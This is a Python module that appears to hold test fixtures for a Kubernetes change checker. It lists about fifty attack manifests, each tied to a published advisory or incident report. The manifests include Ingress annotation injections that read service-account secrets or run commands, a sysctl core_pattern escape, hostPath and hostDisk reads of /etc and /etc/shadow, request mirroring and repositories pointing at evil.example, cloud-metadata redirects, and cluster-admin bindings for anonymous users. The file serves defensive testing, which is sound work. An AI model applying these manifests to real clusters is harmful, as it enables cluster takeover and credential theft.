"""Attacks on content that are taken from public advisories and incident reports.

What the advisory is about was fixed, or is how Kubernetes works; each attack sends what it abuses. All ids are of the
CVE or GHSA lists, issues of kubernetes/kubernetes ("k/k"), or published reports, named with who wrote them.
"""

from .attack_content import (
    APPS,
    CORE,
    LABELS,
    NETWORK,
    RBAC,
    account,
    annotated,
    attack,
    binding,
    group,
    ingress,
    obj,
    role,
    rule,
    secure,
    service,
    user,
    volume,
    web,
)

ALL_KINDS = {"apiGroups": ["*"], "apiVersions": ["*"]}
REVIEWS = {"sideEffects": "None", "admissionReviewVersions": ["v1"]}
ON_WINDOWS = {"required": {"nodeSelectorTerms": [
    {"matchExpressions": [{"key": "kubernetes.io/os", "operator": "In", "values": ["windows"]}]}]}}  # fmt: skip
PODS = {"matchLabels": LABELS}
OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "0-0"}
CLUSTER_OWNER = {"apiVersion": RBAC, "kind": "ClusterRole", "name": "gone", "uid": "0-0"}
NETWORK_POLICY = obj(NETWORK, "NetworkPolicy", spec={
    "podSelector": PODS, "policyTypes": ["Ingress"], "ingress": [{"from": [{"podSelector": PODS}]}]})  # fmt: skip
TOKEN = obj(CORE, "Secret", "token", type="kubernetes.io/service-account-token", metadata={
    "annotations": {"kubernetes.io/service-account.name": "default"}})  # fmt: skip
PROXY_TEXT = "configuration of an ingress controller"
PULL_SECRET = obj(CORE, "Secret", "registry", type="kubernetes.io/dockerconfigjson", data={".dockerconfigjson": "e30="})

# Of "system:node:x" in the group "system:nodes", with a key that nobody has.
NODE_REQUEST = (
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIcE1JR1JBZ0VBTUM4eEZUQVRCZ05WQkFvTURITjVjM1JsYlRw"
    "dWIyUmxjekVXTUJRR0ExVUVBd3dOYzNsegpkR1Z0T201dlpHVTZlREJaTUJNR0J5cUdTTTQ5QWdFR0NDcUdTTTQ5QXdFSEEwSUFC"
    "T0pTbnFmcWkvd0dkOU44CmZBNTBqc3puNXo4Yys3ZEpZZTJmVDlENlQyTWoyLzhzL292UjlocHNDZ2dlMmhOS2JKKzFBUVZiN3lQ"
    "N3NjQnMKSnlKTGRUS2dBREFLQmdncWhrak9QUVFEQWdOSEFEQkVBaUE2R2s1ajF6bGxFcG8xQ1lrSVpZWWRRUkxLTWJYdApJNnY2"
    "dHA3WUM4NXh6UUlnVUwvZThKdThSV0Vzd0pIWmhJb3hPU3RyZTI3UEV0Wk51LzRKa2dxVWMzUT0KLS0tLS1FTkQgQ0VSVElGSUNB"
    "VEUgUkVRVUVTVC0tLS0tCg=="
)
ADVISORIES = (
    # Ingress controllers.
    attack(
        "a snippet of an Ingress reads the controller's token",
        ingress("server-snippet", "set_by_lua $x 'return 1';"),
        fact=PROXY_TEXT,
        source="CVE-2021-25742",
    ),
    attack(
        "a path of an Ingress ends its directive",
        ingress(path="/x { alias /var/run/secrets/; }"),
        fact="leave its place",
        source="CVE-2021-25745",
    ),
    attack(
        "an annotation of an Ingress ends its directive",
        ingress("auth-realm", 'x";\nload_module /tmp/x.so;'),
        fact="leave its place",
        source="CVE-2021-25746",
    ),
    attack(
        "a path of an Ingress hides behind a line break",
        ingress(path="/x\nalias /var/run/secrets/"),
        fact="leave its place",
        source="CVE-2021-25748",
    ),
    attack(
        "a configuration snippet runs a command",
        ingress("configuration-snippet", "return 200 $(id);"),
        fact=PROXY_TEXT,
        source="CVE-2023-5043",
    ),
    attack(
        "a redirect of an Ingress holds directives",
        ingress("permanent-redirect", "https://x;}\nlocation /y { }"),
        fact="leave its place",
        source="CVE-2023-5044",
    ),
    attack(
        "a carriage return passes a check of annotations",
        ingress("auth-url", "http://x/\r{alias /;}"),
        fact="leave its place",
        source="CVE-2024-7646",
    ),
    attack(
        "the name in a client certificate holds directives",
        ingress("auth-tls-match-cn", "CN=x#(\n){}\n }}"),
        fact="leave its place",
        source="CVE-2025-1097",
    ),
    attack(
        "requests are mirrored to somebody else",
        ingress("mirror-target", "https://evil.example/$request_uri"),
        fact="copies requests to another address",
        source="CVE-2025-1098",
    ),
    attack(
        "an address of authentication holds directives",
        ingress("auth-url", "http://x/#;}\nssl_engine ../x;"),
        fact="leave its place",
        source="CVE-2025-24514",
    ),
    # Traffic.
    attack(
        "a Service takes the traffic to an address",
        service(externalIPs=["8.8.8.8"]),
        fact="to 8.8.8.8 (externalIPs)",
        source="CVE-2020-8554",
    ),
    attack(
        "endpoints by hand lead into another namespace",
        obj(CORE, "Endpoints", subsets=[{"addresses": [{"ip": "10.2.3.4"}], "ports": [{"port": 80}]}]),
        fact="goes to 10.2.3.4",
        source="CVE-2021-25740",
    ),
    attack(
        "a slice by hand leads to the metadata of the cloud",
        obj(
            "discovery.k8s.io/v1",
            "EndpointSlice",
            metadata={"labels": {"kubernetes.io/service-name": "web"}},
            addressType="IPv4",
            endpoints=[{"addresses": ["169.254.169.254"]}],
        ),
        fact="goes to 169.254.169.254",
        source="CVE-2021-25737",
    ),
    attack(
        "an external name leads to the administration of a proxy",
        service(type="ExternalName", externalName="localhost"),
        fact="sends its clients to localhost",
        source="CVE-2021-32783",
    ),
    attack(
        "a network policy is opened before its pods go",
        {**NETWORK_POLICY, "spec": {"podSelector": PODS, "policyTypes": ["Ingress"], "ingress": [{}]}},
        there=NETWORK_POLICY,
        fact="ingress from everywhere",
        source="CVE-2024-7598",
    ),
    # Pods and nodes.
    attack(
        "a sub-path of a volume leaves it",
        web(
            container={"volumeMounts": [{"name": "v", "mountPath": "/host", "subPath": "etc"}]},
            **volume({"hostPath": {"path": "/"}}),
        ),
        fact="access to the files of a node",
        source="CVE-2017-1002101",
    ),
    attack(
        "a path of a local volume holds a command",
        obj(
            CORE,
            "PersistentVolume",
            "pv",
            spec={
                "capacity": {"storage": "1Gi"},
                "accessModes": ["ReadWriteOnce"],
                "local": {"path": "C:\\&calc.exe"},
                "nodeAffinity": ON_WINDOWS,
            },
        ),
        fact="access to the files of a node",
        source="CVE-2023-5528",
    ),
    attack(
        "a volume of paths of a node passes a pod policy",
        obj(
            CORE,
            "PersistentVolume",
            "pv",
            spec={"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/etc"}},
        ),
        fact="(spec.hostPath: /etc)",
        source="k/k#81110",
    ),
    attack(
        "a repository as a volume runs its hooks",
        web(**volume({"gitRepo": {"repository": "https://evil.example/x"}})),
        fact="acts on the node",
        source="CVE-2024-10220",
    ),
    attack(
        "a kernel parameter runs a program",
        web(
            securityContext={
                "sysctls": [
                    {"name": "kernel.shm_rmid_forced", "value": "1+kernel.core_pattern=|/x"},
                    {"name": "kernel.core_pattern", "value": "|/x"},
                ]
            }
        ),
        fact="kernel.core_pattern",
        source="CVE-2022-0811",
    ),
    attack(
        "a container leaves through control groups",
        web(container=secure(capabilities={"add": ["SYS_ADMIN"]}, seccompProfile={"type": "Unconfined"})),
        fact="SYS_ADMIN",
        source="CVE-2022-0492",
    ),
    attack(
        "root in a container overwrites the runtime",
        web(container=secure(privileged=True, runAsUser=0)),
        fact="controls its node",
        source="CVE-2019-5736",
    ),
    attack(
        "all keys of a Secret become variables",
        web("evil/x:1", container={"envFrom": [{"secretRef": {"name": "registry"}}]}),
        there=PULL_SECRET,
        fact="evil/x gets the credentials of a registry",
        source="CVE-2024-3177",
    ),
    attack(
        "a node's own object names an owner",
        obj(CORE, "Node", "node-9", metadata={"ownerReferences": [CLUSTER_OWNER]}),
        there=obj(CORE, "Node", "node-9"),
        fact="garbage collector deletes it",
        source="CVE-2025-5187",
    ),
    # Rights.
    attack(
        "a role is collected by admin",
        role(rule("*", "secrets"), labels={"rbac.authorization.k8s.io/aggregate-to-admin": "true"}),
        fact="to all who have ClusterRole admin",
        source="kubernetes/website#55254",
    ),
    attack(
        "everybody who is signed in administers",
        binding("ClusterRole", "cluster-admin", group("system:authenticated")),
        fact="everybody who is signed in",
        source="GCP-2024-003",
    ),
    attack(
        "an anonymous user administers",
        binding("ClusterRole", "cluster-admin", user("system:anonymous")),
        fact="everybody, without signing in",
        source="CrowdStrike: Dero, 2023",
    ),
    attack(
        "a binding looks like one of the cluster's own",
        binding(
            "ClusterRole",
            "cluster-admin",
            account("kube-controller", "kube-system"),
            name="system:controller:kube-controller",
        ),
        fact="ServiceAccount kube-system/kube-controller",
        source="Aqua: RBAC Buster, 2023",
    ),
    attack(
        "a role of an operator may do everything",
        role(rule("*", "*", "*"), name="operator"),
        binding("ClusterRole", "operator", account("operator")),
        fact="every verb on everything",
        source="GHSA-3wfj-3x8q-hrpg",
    ),
    attack(
        "a role reaches the kubelets",
        role(rule("get create", "nodes/proxy"), name="monitoring"),
        binding("ClusterRole", "monitoring", account("m")),
        fact="nodes/proxy",
        source="CVE-2022-3294",
    ),
    attack(
        "a wider role of a project's owner",
        role(rule("get", "pods"), rule("escalate bind", "roles", "rbac.authorization.k8s.io")),
        there=(role(rule("get", "pods")), binding("ClusterRole", "app", account("owner"))),
        fact="grants escalate, bind on roles.rbac.authorization.k8s.io to ServiceAccount default/owner",
        source="CVE-2022-31247",
    ),
    attack(
        "a mapping of cloud users is changed",
        obj(
            CORE,
            "ConfigMap",
            "aws-auth",
            namespace="kube-system",
            data={"mapUsers": "- userarn: arn:aws:iam::1:user/x\n  groups: [system:masters]"},
        ),
        fact="of the cluster itself",
        source="CVE-2022-2385",
    ),
    attack(
        "a service account gets a role of the cloud",
        annotated("ServiceAccount", CORE, "eks.amazonaws.com/role-arn", "arn:aws:iam::1:role/admin"),
        fact="arn:aws:iam::1:role/admin",
        source="Sysdig: SCARLETEEL, 2023",
    ),
    attack(
        "a certificate of a node is asked for",
        obj(
            "certificates.k8s.io/v1",
            "CertificateSigningRequest",
            "node",
            spec={
                "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
                "usages": ["client auth"],
                "request": NODE_REQUEST,
            },
        ),
        fact="signer kubernetes.io/kube-apiserver-client-kubelet",
        source="4ARMED: GKE kubelet bootstrap, 2018",
    ),
    # Admission and the API.
    attack(
        "an exception switches a policy off",
        obj("kyverno.io/v2", "PolicyException", spec={"exceptions": []}),
        fact="decides what the cluster accepts",
        source="CVE-2024-48921",
    ),
    attack(
        "a finalizer keeps an object away from policies",
        {**service(), "metadata": {"name": "web", "finalizers": ["evil.example/never"]}},
        there=service(),
        fact="waits until somebody removes the finalizer evil.example/never",
        source="CVE-2023-34091",
    ),
    attack(
        "a webhook of validation stops the cluster",
        obj(
            "admissionregistration.k8s.io/v1",
            "ValidatingWebhookConfiguration",
            "opa",
            webhooks=[
                {
                    "name": "a.b.c",
                    "failurePolicy": "Fail",
                    "clientConfig": {"service": {"namespace": "opa", "name": "opa"}},
                    "rules": [{"operations": ["*"], **ALL_KINDS, "resources": ["*"]}],
                    **REVIEWS,
                }
            ],
        ),
        fact="calls Service opa/opa for * of * (failurePolicy Fail)",
        source="Jetstack: webhook outage, 2019",
    ),
    attack(
        "another server answers a part of the API",
        obj(
            "apiregistration.k8s.io/v1",
            "APIService",
            "v1.evil.example",
            spec={
                "group": "evil.example",
                "version": "v1",
                "service": {"namespace": "default", "name": "evil"},
                "groupPriorityMinimum": 100,
                "versionPriority": 10,
                "insecureSkipTLSVerify": True,
            },
        ),
        fact="v1 of evil.example is served by default/evil",
        source="CVE-2022-3172",
    ),
    # What deletes and stops.
    attack(
        "an owner in another namespace deletes",
        obj(CORE, "ConfigMap", metadata={"ownerReferences": [OWNER]}),
        there=obj(CORE, "ConfigMap", "gone", namespace="kube-public"),
        fact="does not exist in its namespace",
        source="k/k#65200",
    ),
    attack(
        "an owner of a kind without namespaces deletes the stack",
        obj(CORE, "Secret", metadata={"ownerReferences": [CLUSTER_OWNER]}),
        fact="the garbage collector deletes it",
        source="crossplane/crossplane#895",
    ),
    attack(
        "a default priority evicts others",
        obj("scheduling.k8s.io/v1", "PriorityClass", "high", value=1000, globalDefault=True),
        fact="every pod without a priority gets that of high",
        source="Grafana: pod priorities outage, 2019",
    ),
    attack(
        "a label of a node disappears from its selectors",
        obj(CORE, "Node", "node-9", metadata={"labels": {"role": "none"}}),
        there=obj(CORE, "Node", "node-9", metadata={"labels": {"role": "route-reflector"}}),
        fact="changes Node node-9",
        source="Reddit: pi-day outage, 2023",
    ),
    # Who deploys elsewhere.
    attack(
        "an application of another repository",
        obj(
            "argoproj.io/v1alpha1",
            "Application",
            spec={
                "source": {"repoURL": "https://git.evil.example/x", "path": "."},
                "syncPolicy": {"automated": {"prune": True}},
            },
        ),
        fact="from https://git.evil.example/x",
        source="CVE-2022-24348",
    ),
    attack(
        "a reconciler gets somebody else's kubeconfig",
        obj(
            "kustomize.toolkit.fluxcd.io/v1",
            "Kustomization",
            spec={"kubeConfig": {"secretRef": {"name": "evil"}}, "prune": True},
        ),
        fact="somebody else creates what it names",
        source="CVE-2022-24817",
    ),
    attack(
        "a machine reads a disk of its host",
        obj(
            "kubevirt.io/v1",
            "VirtualMachine",
            spec={
                "template": {"spec": {"volumes": [{"name": "d", "hostDisk": {"path": "/etc/shadow", "type": "Disk"}}]}}
            },
        ),
        fact="acts on the node",
        source="CVE-2022-1798",
    ),
    attack(
        "an identical name deploys to all nodes of kube-system",
        obj(
            APPS,
            "DaemonSet",
            "kube-controller",
            namespace="kube-system",
            spec={
                "selector": {"matchLabels": LABELS},
                "template": {
                    "metadata": {"labels": LABELS},
                    "spec": {"containers": [{"name": "m", "image": "evil/x:1"}]},
                },
            },
        ),
        fact="of the cluster itself (namespace kube-system)",
        source="Aqua: RBAC Buster, 2023",
    ),
    attack(
        "a token of an account in a new image",
        web("evil/x:1", **volume({"secret": {"secretName": "token"}})),
        there=TOKEN,
        fact="evil/x gets a token of a service account",
        source="CVE-2023-2728",
    ),
    attack(
        "a webhook leads to the metadata of the cloud",
        obj(
            "admissionregistration.k8s.io/v1",
            "ValidatingWebhookConfiguration",
            "meta",
            webhooks=[{"name": "a.b.c", "clientConfig": {"url": "https://169.254.169.254/"}, "rules": [], **REVIEWS}],
        ),
        fact="a.b.c calls https://169.254.169.254/",
        source="CVE-2020-8561",
    ),
    attack(
        "a plugin on each node may change nodes",
        role(rule("patch update", "nodes"), name="csi"),
        binding("ClusterRole", "csi", account("csi")),
        fact="patch, update on nodes to ServiceAccount default/csi",
        source="CVE-2023-30840",
    ),
    attack(
        "a plugin on each node reads all secrets",
        role(rule("get list", "secrets"), name="csi"),
        binding("ClusterRole", "csi", account("csi")),
        fact="get, list on secrets to ServiceAccount default/csi",
        source="CVE-2023-30512",
    ),
)
